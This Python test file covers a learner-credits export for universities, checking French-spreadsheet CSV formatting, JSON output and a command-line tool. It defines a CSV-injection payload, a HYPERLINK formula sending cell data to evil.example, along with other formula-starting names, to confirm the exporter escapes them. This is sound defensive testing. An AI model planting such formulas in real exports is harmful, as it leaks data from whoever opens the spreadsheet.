"""``export credits``: one row per learner for universities; CSV that a French spreadsheet
opens as meant and that never runs a formula; JSON with plain numbers."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import update

from apprenance.clock import fixed_clock
from apprenance.db import tables as t
from apprenance.domain.catalog import FUNCTIONS, PILLARS
from apprenance.errors import UnknownFormat
from apprenance.services.certificates.credits_export import (
    COLUMNS,
    FORMULA_STARTS,
    csv_cell,
    export_credits,
    inert,
)
from apprenance.services.certificates.gather import CertificateOptions
from builders import add_activity
from certificate_fixtures import CAMILLE, ISSUED, PUBLIC, tiny_world
from conftest import CliResult

CLOCK = fixed_clock(ISSUED)
EVIL = '=HYPERLINK("https://evil.example/steal?d="&A1;"Cliquez")'


def parse(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark
    text = content.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_cells_that_would_run_as_formulas_are_made_text(start: str) -> None:
    assert inert(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(f"{start}SUM(A1:A9)").startswith("'")


def test_plain_cells_stay_as_they_are() -> None:
    assert inert("Léa Marchand") == "Léa Marchand"
    assert inert("1+1=2") == "1+1=2"
    assert csv_cell(12.5) == "12,5"
    assert csv_cell(3.0) == "3"
    assert csv_cell(0.126) == "0,13"
    assert csv_cell(7) == "7"
    assert csv_cell([{"id": "greencomp:4.2", "label": "Pensée", "level": 2}]) == \
        "Pensée [greencomp:4.2] 2"


def _hostile_world(url: str) -> tuple[object, object]:
    store, catalog = tiny_world(url)
    for participant, name in (("-2+3@example.org", EVIL), ("plain@example.org", "@Ana Ïs")):
        add_activity(store, catalog, participant=participant, day=ISSUED.date(), hours=2.25,
                     project="p1")
        with store.transaction() as conn:
            conn.execute(update(t.learners).where(t.learners.c.participant == participant)
                         .values(name=name, territory_id="t1"))
    return store, catalog


def test_csv_for_a_french_spreadsheet(db_url: str) -> None:
    store, catalog = _hostile_world(db_url)
    export = export_credits(store, catalog, fmt="csv", clock=CLOCK,  # type: ignore[arg-type]
                            options=CertificateOptions(lang="fr", public_url=PUBLIC))
    rows = parse(export.content)
    assert list(rows[0]) == list(COLUMNS)
    by_id = {r["identifier"]: r for r in rows}
    assert set(by_id) == {"'-2+3@example.org", CAMILLE, "plain@example.org"}
    camille = by_id[CAMILLE]
    assert camille["name"] == "Camille Lefèvre-Œuvray"
    assert camille["pathway"] == "parcours"
    assert (camille["period_start"], camille["period_end"]) == ("2025-03-03", "2025-05-20")
    hours = sum(3.5 + i % 3 for i in range(12)) + 12
    assert camille["hours_total"] == f"{hours:g}".replace(".", ",")
    assert camille["hours_pillar_etre"] == "12"
    assert camille["hours_function_apprendre"] == "12"
    assert camille["ects_recommended"] == "2"
    assert "[facilitation:animation] 2" in camille["competences_reached"]
    assert camille["credential_url"].startswith(PUBLIC + "/verify?credential=")
    assert by_id["'-2+3@example.org"]["name"] == "'" + EVIL
    assert by_id["plain@example.org"]["name"] == "'@Ana Ïs"
    assert by_id["plain@example.org"]["hours_total"] == "2,25"
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value


def test_json_rows_and_filters(db_url: str) -> None:
    store, catalog = _hostile_world(db_url)
    export = export_credits(store, catalog, fmt="json", clock=CLOCK,  # type: ignore[arg-type]
                            pathway="parcours", territory="t1")
    rows = json.loads(export.content)
    assert [r["identifier"] for r in rows] == [CAMILLE]
    row = rows[0]
    assert set(row) == set(COLUMNS)
    assert row["hours_per_credit"] == 30 and isinstance(row["ects_recommended"], float)
    assert {f"hours_pillar_{p}" for p in PILLARS} <= set(row)
    assert {f"hours_function_{f}" for f in FUNCTIONS} <= set(row)
    assert row["competences_reached"][0]["id"] == "facilitation:animation"
    assert row["competences_reached"][0]["level"] == 2
    assert export.to_dict()["rows"] == 1
    with pytest.raises(UnknownFormat):
        export_credits(store, catalog, fmt="xlsx", clock=CLOCK)  # type: ignore[arg-type]


def test_export_command(cli: Callable[..., CliResult], tmp_path: Path, home: Path,
                        monkeypatch: pytest.MonkeyPatch) -> None:
    from certificate_fixtures import LEA, example_store, real_catalog

    monkeypatch.setenv("APPRENANCE_FAKE_NOW", ISSUED.isoformat())
    url = f"sqlite:///{tmp_path / 'store.sqlite3'}"
    example_store(url, real_catalog(home), participants={LEA}, limit=60)
    base = ("--home", home, "--db", url, "export", "credits")
    shown = cli(*base, "--format", "csv", "--territory", "val-de-serre")
    assert shown.code == 0, shown.err
    rows = list(csv.DictReader(io.StringIO(shown.out.lstrip("\ufeff")), delimiter=";"))
    lea = next(r for r in rows if r["identifier"] == LEA)
    assert lea["name"] == "Léa Marchand"
    assert "," in lea["hours_total"] or lea["hours_total"].isdigit()
    out = tmp_path / "credits.json"
    written = cli(*base, "--format", "json", "--out", out, "--json", "--lang", "en")
    assert written.code == 0, written.err
    assert written.json() == {"rows": len(rows), "format": "json",
                              "bytes": out.stat().st_size, "file": str(out)}
    assert json.loads(out.read_text(encoding="utf-8"))[0]["identifier"]
    human = cli(*base, "--format", "csv", "--out", tmp_path / "c.csv")
    assert human.code == 0 and "exported" in human.out
    none = cli(*base, "--format", "json", "--pathway", "immersion-1an")
    assert none.code == 0 and json.loads(none.out) == []
    bad = cli(*base, "--format", "xlsx")
    assert bad.code == 2
    unknown = cli(*base, "--format", "csv", "--pathway", "nope")
    assert unknown.code == 2 and "no pathway 'nope'" in unknown.err
